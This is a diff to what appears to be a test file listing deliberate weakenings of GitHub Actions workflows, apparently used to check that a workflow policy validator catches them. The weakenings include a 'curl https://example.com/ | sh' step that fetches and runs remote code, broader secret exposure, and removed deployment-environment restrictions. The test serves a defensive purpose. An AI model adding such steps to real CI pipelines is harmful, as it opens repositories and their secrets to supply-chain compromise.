@@ -60,6 +60,10 @@ LOOSENED = {
     "an image": ("publish.yml", "    runs-on: ubuntu-24.04\n", "    runs-on: ubuntu-24.04\n    container: python:latest\n"),
     "something from the internet": ("publish.yml", "run: peerlore released", "run: curl https://example.com/ | sh; peerlore released"),
     "a secret": ("record.yml", "GITHUB_TOKEN: ${{ github.token }}", "GITHUB_TOKEN: ${{ secrets.EVIDENCE_TOKEN }}"),
+    "a secret beside the key": ("record.yml", "ssh-key: ${{ secrets.EVIDENCE_KEY }}", "ssh-key: ${{ secrets.EVIDENCE_KEY || secrets.OTHER }}"),
+    "a secret in a check": ("check.yml", "          path: library\n", "          path: library\n          token: ${{ secrets.EVIDENCE_KEY }}\n"),
+    "a key without its environment": ("record.yml", re.compile(r"    environment: evidence.*\n"), ""),
+    "a deployment from any branch": ("publish.yml", re.compile(r"    environment:\n.*\n.*\n"), ""),
     "a recorder from elsewhere": (
         "publish.yml",
         re.compile(r"uses: ./.github/workflows/record.yml.*"),
